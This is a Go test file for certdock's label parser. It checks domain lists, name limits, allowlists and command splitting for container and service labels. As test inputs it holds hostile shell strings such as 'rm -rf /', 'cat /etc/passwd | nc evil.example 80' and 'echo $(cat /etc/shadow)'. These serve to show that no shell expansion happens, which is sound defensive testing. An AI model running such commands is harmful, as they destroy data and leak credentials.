package labels

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/certdock/certdock/cert"
)

func TestParse(t *testing.T) {
	c := func(l map[string]string) Workload { return Workload{Kind: Container, Name: "web", Labels: l} }
	tests := []struct {
		name    string
		w       Workload
		allowed string
		want    []cert.Spec // Source omitted
		wantErr []string    // substrings, one per problem
		noSpecs bool
	}{
		{name: "no labels", w: c(map[string]string{"other": "x"})},
		{name: "domains", w: c(map[string]string{"certdock.domains": "Example.com, *.example.com"}),
			want: []cert.Spec{{Name: "example.com", Domains: []string{"example.com", "*.example.com"}}}},
		{name: "wildcard first names the lineage", w: c(map[string]string{"certdock.domains": "*.example.com,example.com"}),
			want: []cert.Spec{{Name: "example.com", Domains: []string{"*.example.com", "example.com"}}}},
		{name: "name override", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.name": "Web-Cert"}),
			want: []cert.Spec{{Name: "web-cert", Domains: []string{"a.example.com"}}}},
		{name: "exec", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.exec": `nginx -s reload`}),
			want: []cert.Spec{{Name: "a.example.com", Domains: []string{"a.example.com"}, Actions: []cert.Action{{Kind: cert.Exec, Target: "web", Command: []string{"nginx", "-s", "reload"}}}}}},
		{name: "signal and subscription", w: c(map[string]string{"certdock.cert": "mail.example.com, *.example.com", "certdock.signal": "hup"}),
			want: []cert.Spec{
				{Name: "mail.example.com", Actions: []cert.Action{{Kind: cert.Signal, Target: "web", Signal: "SIGHUP"}}},
				{Name: "example.com", Actions: []cert.Action{{Kind: cert.Signal, Target: "web", Signal: "SIGHUP"}}},
			}},
		{name: "restart false is no action", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.restart": "false"}),
			want: []cert.Spec{{Name: "a.example.com", Domains: []string{"a.example.com"}}}},
		{name: "service restart is a force-update", w: Workload{Kind: Service, Name: "api", Labels: map[string]string{"certdock.domains": "api.example.com", "certdock.restart": "true"}},
			want: []cert.Spec{{Name: "api.example.com", Domains: []string{"api.example.com"}, Actions: []cert.Action{{Kind: cert.Restart, Target: "api", Service: true}}}}},
		{name: "service exec refused", w: Workload{Kind: Service, Name: "api", Labels: map[string]string{"certdock.domains": "api.example.com", "certdock.exec": "reload"}},
			wantErr: []string{"service api: label certdock.exec: a Swarm service can only be force-updated"}, noSpecs: true},
		{name: "empty domains", w: c(map[string]string{"certdock.domains": " , "}), wantErr: []string{"container web: label certdock.domains: empty"}, noSpecs: true},
		{name: "invalid domain", w: c(map[string]string{"certdock.domains": "a..example.com"}), wantErr: []string{"label certdock.domains"}, noSpecs: true},
		{name: "covered by wildcard", w: c(map[string]string{"certdock.domains": "*.example.com,a.example.com"}), wantErr: []string{"a.example.com is already covered by *.example.com"}, noSpecs: true},
		{name: "bad signal", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.signal": "SIGFOO"}), wantErr: []string{"label certdock.signal: unknown signal"}, noSpecs: true},
		{name: "unparsable exec", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.exec": `nginx "-s reload`}), wantErr: []string{"label certdock.exec: unterminated double quote: the \" at character 7 is never closed"}, noSpecs: true},
		{name: "conflicting actions", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.restart": "true", "certdock.exec": "x"}), wantErr: []string{"conflicts with certdock.restart"}, noSpecs: true},
		{name: "bad restart value", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.restart": "yes please"}), wantErr: []string{"label certdock.restart"}, noSpecs: true},
		{name: "action without certificate", w: c(map[string]string{"certdock.restart": "true"}), wantErr: []string{"no certificate to act on"}, noSpecs: true},
		{name: "name without domains", w: c(map[string]string{"certdock.name": "x"}), wantErr: []string{"needs certdock.domains"}, noSpecs: true},
		{name: "bad name", w: c(map[string]string{"certdock.domains": "a.example.com", "certdock.name": "../etc"}), wantErr: []string{"label certdock.name"}, noSpecs: true},
		{name: "unknown key reported, rest served", w: c(map[string]string{"certdock.domain": "x", "certdock.domains": "a.example.com"}),
			want: []cert.Spec{{Name: "a.example.com", Domains: []string{"a.example.com"}}}, wantErr: []string{"label certdock.domain: unknown label"}},
		{name: "allowed", allowed: "*.example.com", w: c(map[string]string{"certdock.domains": "a.b.example.com,*.example.com"}),
			want: []cert.Spec{{Name: "a.b.example.com", Domains: []string{"a.b.example.com", "*.example.com"}}}},
		{name: "as many names as the CA allows", w: c(map[string]string{"certdock.domains": strings.Join(manyNames(cert.MaxNames), ",")}),
			want: []cert.Spec{{Name: "n1.example.com", Domains: manyNames(cert.MaxNames)}}},
		{name: "names counted after de-duplication", w: c(map[string]string{"certdock.domains": strings.Join(manyNames(cert.MaxNames), ",") + ",N1.example.com.,n2.example.com"}),
			want: []cert.Spec{{Name: "n1.example.com", Domains: manyNames(cert.MaxNames)}}},
		{name: "one name too many", w: c(map[string]string{"certdock.domains": strings.Join(manyNames(cert.MaxNames+1), ", "), "certdock.restart": "true"}),
			wantErr: []string{"container web: label certdock.domains: 101 names; the CA's limit is 100 names per certificate"}, noSpecs: true},
		{name: "one name too many on a service", w: Workload{Kind: Service, Name: "api", Labels: map[string]string{"certdock.domains": strings.Join(manyNames(cert.MaxNames+1), " ")}},
			wantErr: []string{"service api: label certdock.domains: 101 names; the CA's limit is 100 names per certificate"}, noSpecs: true},
		{name: "not allowed", allowed: "*.example.com", w: c(map[string]string{"certdock.domains": "example.com"}), wantErr: []string{"example.com is not allowed by CERTDOCK_ALLOWED_DOMAINS"}, noSpecs: true},
		{name: "not allowed other zone", allowed: "*.example.com,example.org", w: c(map[string]string{"certdock.domains": "evil.com"}), wantErr: []string{"not allowed"}, noSpecs: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var allow *Allowlist
			if tt.allowed != "" {
				var err error
				if allow, err = ParseAllowlist(tt.allowed); err != nil {
					t.Fatal(err)
				}
			}
			specs, problems := Parse("certdock", tt.w, allow)
			if len(problems) != len(tt.wantErr) {
				t.Fatalf("problems %v, want %d", problems, len(tt.wantErr))
			}
			for i, p := range problems {
				var le *Error
				if !errors.As(p, &le) || !strings.Contains(p.Error(), tt.wantErr[i]) {
					t.Errorf("problem %q, want *Error containing %q", p, tt.wantErr[i])
				}
			}
			if tt.noSpecs && len(specs) != 0 {
				t.Fatalf("a workload with a malformed label must be skipped, got %v", specs)
			}
			if len(specs) != len(tt.want) {
				t.Fatalf("specs %+v, want %+v", specs, tt.want)
			}
			for i, s := range specs {
				w := tt.want[i]
				if s.Name != w.Name || !slices.Equal(s.Domains, w.Domains) || len(s.Actions) != len(w.Actions) {
					t.Errorf("spec %+v, want %+v", s, w)
					continue
				}
				for j := range s.Actions {
					if s.Actions[j].String() != w.Actions[j].String() || s.Actions[j].Service != w.Actions[j].Service {
						t.Errorf("action %v, want %v", s.Actions[j], w.Actions[j])
					}
				}
				if s.Source.Kind != cert.FromLabel || s.Source.Workload != tt.w.String() {
					t.Errorf("source %v", s.Source)
				}
			}
		})
	}
}

// A workload asking for more names than the CA allows gets no
// certificate; the workloads around it still get theirs.
func TestTooManyNamesSkipsOnlyThatWorkload(t *testing.T) {
	ws := []Workload{
		{Kind: Container, Name: "a", Labels: map[string]string{"certdock.domains": "a.example.com"}},
		{Kind: Container, Name: "big", Labels: map[string]string{"certdock.domains": strings.Join(manyNames(cert.MaxNames+1), ","), "certdock.restart": "true"}},
		{Kind: Service, Name: "b", Labels: map[string]string{"certdock.domains": strings.Join(manyNames(cert.MaxNames), ","), "certdock.restart": "true"}},
	}
	var got []string
	var problems []error
	for _, w := range ws {
		specs, probs := Parse("certdock", w, nil)
		problems = append(problems, probs...)
		for _, s := range specs {
			got = append(got, s.Source.Workload+" "+s.Name)
		}
	}
	if want := []string{"container a a.example.com", "service b n1.example.com"}; !slices.Equal(got, want) {
		t.Errorf("specs %q, want %q", got, want)
	}
	if len(problems) != 1 || !strings.HasPrefix(problems[0].Error(), "container big: label certdock.domains: 101 names") {
		t.Errorf("problems %v, want one naming container big and certdock.domains", problems)
	}
}

// manyNames returns n distinct names: n1.example.com, n2.example.com, ….
func manyNames(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("n%d.example.com", i+1)
	}
	return out
}

func TestPrefix(t *testing.T) {
	w := Workload{Kind: Container, Name: "x", Labels: map[string]string{"acme.domains": "a.example.com", "certdock.domains": "b.example.com"}}
	specs, _ := Parse("acme", w, nil)
	if len(specs) != 1 || specs[0].Name != "a.example.com" {
		t.Fatalf("prefix not honoured: %v", specs)
	}
}

func TestSplitCommand(t *testing.T) {
	tests := []struct {
		in      string
		want    []string
		wantErr bool
	}{
		{in: "nginx -s reload", want: []string{"nginx", "-s", "reload"}},
		{in: `  a   b  `, want: []string{"a", "b"}},
		{in: `sh -c 'echo $HOME; rm -rf /'`, want: []string{"sh", "-c", "echo $HOME; rm -rf /"}},
		{in: `say "hello \"you\" \n"`, want: []string{"say", `hello "you" \n`}},
		{in: `a\ b c`, want: []string{"a b", "c"}},
		{in: `x ''`, want: []string{"x", ""}},
		{in: `echo a|b;c`, want: []string{"echo", "a|b;c"}},
		{in: "", wantErr: true},
		{in: "   ", wantErr: true},
		{in: `'open`, wantErr: true},
		{in: `trailing\`, wantErr: true},
		{in: "a\x00b", wantErr: true},
		{in: "echo 'a\x01b'", wantErr: true},
		{in: `'' x`, wantErr: true},
		{in: "sh -c 'a\n\tb'", want: []string{"sh", "-c", "a\n\tb"}},
		{in: "nginx \\\n -s reload", want: []string{"nginx", "-s", "reload"}},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, err := SplitCommand(tt.in)
			if (err != nil) != tt.wantErr || !slices.Equal(got, tt.want) {
				t.Errorf("SplitCommand(%q) = %q, %v", tt.in, got, err)
			}
		})
	}
}

func FuzzParse(f *testing.F) {
	f.Add("a.example.com,*.example.com", "", "", "true", "", "nginx -s reload", false, "", "", "", "", "")
	f.Add("x", "n", "c", "", "HUP", "", true, "", "", "", "", "")
	f.Add("a.example.com", "", "b.example.com", "", "", "", true, "true", "tls/x", "101", "0", "0440")
	f.Add("", "", "a.example.com", "true", "", "", true, "1", "/etc/../x", "-1", "g", "4755")
	f.Add("a.example.com", "", "", "", "", "", false, "true", "./a//b/", "", "", "")
	f.Fuzz(func(t *testing.T, domains, name, certs, restart, signal, exec string, service bool, secrets, dir, uid, gid, mode string) {
		l := map[string]string{}
		for k, v := range map[string]string{"domains": domains, "name": name, "cert": certs, "restart": restart, "signal": signal, "exec": exec,
			"secrets": secrets, "secrets.dir": dir, "secrets.uid": uid, "secrets.gid": gid, "secrets.mode": mode} {
			if v != "" {
				l["certdock."+k] = v
			}
		}
		kind := Container
		if service {
			kind = Service
		}
		specs, problems := Parse("certdock", Workload{Kind: kind, Name: "w", Labels: l}, nil)
		for _, p := range problems {
			var le *Error
			if !errors.As(p, &le) {
				t.Fatalf("problem of type %T", p)
			}
		}
		for _, s := range specs {
			if err := cert.ValidName(s.Name); err != nil {
				t.Fatalf("invalid name %q", s.Name)
			}
			if len(s.Domains) > cert.MaxNames {
				t.Fatalf("spec %q has %d names, more than the CA allows", s.Name, len(s.Domains))
			}
			for _, d := range s.Domains {
				if n, err := cert.NormalizeDomain(d); err != nil || n != d {
					t.Fatalf("domain %q not normalised", d)
				}
			}
			for _, a := range s.Actions {
				if a.Target != "w" {
					t.Fatalf("action on another workload: %v", a)
				}
				if a.Kind == cert.Exec && len(a.Command) == 0 {
					t.Fatal("empty exec")
				}
			}
			if len(s.Deliveries) > 1 || len(s.Deliveries) == 1 && !service {
				t.Fatalf("deliveries %+v on a %v workload", s.Deliveries, kind)
			}
			for _, d := range s.Deliveries {
				checkDelivery(t, d, "w")
			}
		}
	})
}

func FuzzSplitCommand(f *testing.F) {
	for _, s := range []string{"a b", `'x y' "z \" w"`, `a\ b`, "''"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		argv, err := SplitCommand(s)
		if err == nil && (len(argv) == 0 || argv[0] == "") {
			t.Fatalf("SplitCommand(%q) = %q without error", s, argv)
		}
		for _, arg := range argv {
			if strings.ContainsFunc(arg, isControl) {
				t.Fatalf("SplitCommand(%q) = %q: a control character got through", s, argv)
			}
		}
	})
}

// TestExecLabelNeverUsesAShell checks that shell syntax in certdock.exec
// reaches the container as literal argv elements: nothing is expanded,
// substituted, piped, chained, redirected or globbed, and the command is
// not wrapped in sh -c.
func TestExecLabelNeverUsesAShell(t *testing.T) {
	tests := []struct {
		name string
		exec string
		want []string
	}{
		{name: "semicolon", exec: `nginx -s reload; rm -rf /`, want: []string{"nginx", "-s", "reload;", "rm", "-rf", "/"}},
		{name: "and", exec: `true && touch /tmp/pwned`, want: []string{"true", "&&", "touch", "/tmp/pwned"}},
		{name: "or", exec: `false || touch /tmp/pwned`, want: []string{"false", "||", "touch", "/tmp/pwned"}},
		{name: "command substitution", exec: `echo $(cat /etc/shadow)`, want: []string{"echo", "$(cat", "/etc/shadow)"}},
		{name: "backticks", exec: "echo `id`", want: []string{"echo", "`id`"}},
		{name: "pipe", exec: `cat /etc/passwd | nc evil.example 80`, want: []string{"cat", "/etc/passwd", "|", "nc", "evil.example", "80"}},
		{name: "pipe without spaces", exec: `a|b`, want: []string{"a|b"}},
		{name: "redirections", exec: `echo x >/tmp/f 2>&1 </dev/null`, want: []string{"echo", "x", ">/tmp/f", "2>&1", "</dev/null"}},
		{name: "background", exec: `sleep 100 &`, want: []string{"sleep", "100", "&"}},
		{name: "variables", exec: `echo $HOME ${PATH} "$USER"`, want: []string{"echo", "$HOME", "${PATH}", "$USER"}},
		{name: "glob and tilde", exec: `ls * ~ /etc/*.conf`, want: []string{"ls", "*", "~", "/etc/*.conf"}},
		{name: "quoted substitution stays literal", exec: `sh -c "echo \$(id)"`, want: []string{"sh", "-c", "echo $(id)"}},
		{name: "subshell and braces", exec: `(reboot) {a,b}`, want: []string{"(reboot)", "{a,b}"}},
		{name: "comment", exec: `reload # not a comment`, want: []string{"reload", "#", "not", "a", "comment"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := SplitCommand(tt.exec)
			if err != nil || !slices.Equal(got, tt.want) {
				t.Fatalf("SplitCommand(%q) = %q, %v; want %q", tt.exec, got, err, tt.want)
			}
			w := Workload{Kind: Container, Name: "web", Labels: map[string]string{"certdock.domains": "a.example.com", "certdock.exec": tt.exec}}
			specs, problems := Parse("certdock", w, nil)
			if len(problems) != 0 || len(specs) != 1 || len(specs[0].Actions) != 1 {
				t.Fatalf("Parse = %+v, %v; want one spec with one action", specs, problems)
			}
			a := specs[0].Actions[0]
			if a.Kind != cert.Exec || a.Target != "web" || !slices.Equal(a.Command, tt.want) {
				t.Errorf("action %+v, want exec of %q in web", a, tt.want)
			}
		})
	}
}
